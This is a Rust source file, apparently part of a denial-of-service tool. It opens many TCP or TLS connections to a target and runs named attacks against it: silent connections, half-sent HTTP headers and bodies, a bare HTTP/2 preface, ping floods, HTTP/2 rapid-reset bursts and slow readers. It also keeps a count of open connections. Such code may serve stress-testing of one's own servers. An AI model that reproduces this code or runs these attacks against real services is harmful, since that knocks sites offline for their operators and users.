//! One caller, from its connection to whatever ends that.

use std::io;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio_rustls::TlsConnector;

use super::{Attack, Tally, Target, bytes};

/// A caller that waits longer than this to be let in makes room for the next one.
const DOOR: Duration = Duration::from_secs(1);
/// The kernel's buffers of each connection, so that a thousand of them take no gigabytes here.
const BUFFER: u32 = 16 << 10;
/// Between two bursts of those who never stop.
const ROUND: Duration = Duration::from_millis(100);
/// What is in a burst.
const BURST: u32 = 10;

trait Stream: AsyncRead + AsyncWrite + Send + Unpin {}
impl<T: AsyncRead + AsyncWrite + Send + Unpin> Stream for T {}

pub(super) async fn attack(
    attack: Attack,
    number: usize,
    target: Arc<Target>,
    tally: Arc<Tally>,
    doors: Arc<Semaphore>,
) {
    let by_http2 = match attack {
        Attack::PrefaceOnly | Attack::EndlessPings | Attack::RapidResets => true,
        Attack::SlowReaders => number % 2 == 1,
        _ => false,
    };
    // The semaphore is never closed.
    let door = doors.acquire().await;
    let mut connecting = std::pin::pin!(connect(attack, &target, by_http2));
    let at_the_door = tokio::time::timeout(DOOR, &mut connecting).await;
    drop(door);
    let connected = match at_the_door {
        Ok(connected) => connected,
        Err(_) => connecting.await,
    };
    if let Ok(stream) = connected {
        tally.connected.fetch_add(1, Ordering::Relaxed);
        tally.open.fetch_add(1, Ordering::Relaxed);
        tally.begun.fetch_add(1, Ordering::Relaxed);
        // How it ends is the listener's choice.
        let _ = talk(attack, by_http2, &target, stream).await;
        tally.open.fetch_sub(1, Ordering::Relaxed);
    } else {
        tally.begun.fetch_add(1, Ordering::Relaxed);
    }
}

async fn connect(attack: Attack, target: &Target, by_http2: bool) -> io::Result<Box<dyn Stream>> {
    let socket = if target.address.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
    socket.set_send_buffer_size(BUFFER)?;
    socket.set_recv_buffer_size(BUFFER)?;
    let stream: TcpStream = socket.connect(target.address).await?;
    stream.set_nodelay(true)?;
    match &target.tls {
        Some(tls) if attack != Attack::SilentTcp => {
            let config = if by_http2 { &tls.http2 } else { &tls.http1 };
            let connector = TlsConnector::from(config.clone());
            Ok(Box::new(connector.connect(tls.name.clone(), stream).await?))
        }
        _ => Ok(Box::new(stream)),
    }
}

/// Returns when the listener has closed the connection.
async fn talk(attack: Attack, by_http2: bool, target: &Target, stream: Box<dyn Stream>) -> io::Result<()> {
    let (mut read, mut write) = tokio::io::split(stream);
    let act = async {
        match attack {
            Attack::SilentTcp | Attack::SilentTls => {}
            Attack::HalfHeads => write.write_all(&bytes::half_head(&target.path)).await?,
            Attack::HalfBodies => write.write_all(&bytes::half_body(&target.path)).await?,
            Attack::PrefaceOnly => write.write_all(bytes::PREFACE).await?,
            Attack::EndlessPings => {
                write.write_all(&bytes::begin_http2(None)).await?;
                let pings = bytes::ping().repeat(BURST as usize);
                bursts(&mut write, |_| pings.clone()).await?;
            }
            Attack::RapidResets => {
                write.write_all(&bytes::begin_http2(None)).await?;
                let request = |stream| bytes::http2_request(stream, target.method, &target.path, false);
                let taken_back = |stream| [request(stream), bytes::reset(stream)].concat();
                bursts(&mut write, |burst| streams(burst).flat_map(taken_back).collect()).await?;
            }
            Attack::SlowReaders if by_http2 => {
                write.write_all(&bytes::begin_http2(Some(0))).await?;
                let path = bytes::path_of_long_answer(target);
                let request = |stream| bytes::http2_request(stream, target.method, &path, true);
                bursts(&mut write, |burst| streams(burst).flat_map(request).collect()).await?;
            }
            Attack::SlowReaders => {
                let request = bytes::http1_request(target.method, &bytes::path_of_long_answer(target));
                let requests = request.repeat(BURST as usize);
                bursts(&mut write, |_| requests.clone()).await?;
            }
        }
        write.flush().await?;
        std::future::pending().await
    };
    let closed = async {
        if attack == Attack::SlowReaders {
            return std::future::pending().await;
        }
        let mut part = [0; 4096];
        while read.read(&mut part).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = act => ended,
        ended = closed => ended,
    }
}

/// Client streams of one burst, which have odd numbers.
fn streams(burst: u32) -> impl Iterator<Item = u32> {
    (0..BURST).map(move |index| (burst * BURST + index) * 2 + 1)
}

async fn bursts(write: &mut (impl AsyncWrite + Unpin), burst: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    for number in 0.. {
        write.write_all(&burst(number)).await?;
        write.flush().await?;
        tokio::time::sleep(ROUND).await;
    }
    Ok(())
}
